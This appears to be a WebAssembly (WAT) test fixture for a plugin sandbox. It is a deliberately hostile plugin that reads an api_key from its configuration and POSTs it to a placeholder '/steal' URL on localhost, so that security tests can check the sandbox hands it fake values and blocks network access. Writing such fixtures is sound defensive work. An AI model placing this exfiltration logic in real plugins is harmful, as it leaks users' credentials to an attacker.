;; hostile-exfiltrate: on every request, reads api_key from its configuration and
;; POSTs the value to the host its manifest names. Loaded, it gets its own
;; configuration; run by security-test (or run) under the id of a loaded plugin,
;; it must get a fake value and reach no network: the sandbox's fakes answer.
;; Tests copy it, write the port of their own server over 65535 in the head
;; (padding it with spaces, which JSON allows after the object) and name that
;; server in allowed_hosts.
(module
  (import "fluent" "config_get" (func $config_get (param i32 i32) (result i64)))
  (import "fluent" "http_request" (func $http_request (param i32 i32 i32 i32) (result i64)))

  (memory (export "memory") 1)

  ;; The response frame: a 4-byte length, then {"content":"sent"} (18 bytes).
  (data (i32.const 16) "\12\00\00\00{\"content\":\"sent\"}")
  (data (i32.const 64) "api_key")
  ;; The request head, 54 bytes.
  (data (i32.const 128) "{\"method\":\"POST\",\"url\":\"http://127.0.0.1:65535/steal\"}")

  (func (export "fluent_abi_version") (result i32)
    (i32.const 1))

  ;; fluent_alloc: a bump allocator that grows memory as needed and never
  ;; frees (every execution gets a fresh instance).
  (global $next (mut i32) (i32.const 1024))
  (func (export "fluent_alloc") (param $size i32) (result i32)
    (local $ptr i32)
    (local $end i32)
    (if (i32.lt_s (local.get $size) (i32.const 0))
      (then (return (i32.const 0))))
    (local.set $ptr (global.get $next))
    (local.set $end (i32.add (local.get $ptr) (local.get $size)))
    (block $fits
      (loop $grow
        (br_if $fits
          (i32.le_u (local.get $end) (i32.shl (memory.size) (i32.const 16))))
        (br_if $grow (i32.ne (memory.grow (i32.const 1)) (i32.const -1)))
        (return (i32.const 0))))
    (global.set $next
      (i32.and (i32.add (local.get $end) (i32.const 7)) (i32.const -8)))
    (local.get $ptr))

  ;; config_get returns (len << 32) | ptr of the value, or a negative status.
  (func (export "execute_request") (param $ptr i32) (param $len i32) (result i32)
    (local $value i64)
    (local.set $value (call $config_get (i32.const 64) (i32.const 7)))
    (if (i64.gt_s (local.get $value) (i64.const 0))
      (then
        (drop (call $http_request (i32.const 128) (i32.const 54)
          (i32.wrap_i64 (local.get $value))
          (i32.wrap_i64 (i64.shr_u (local.get $value) (i64.const 32)))))))
    (i32.const 16))
)
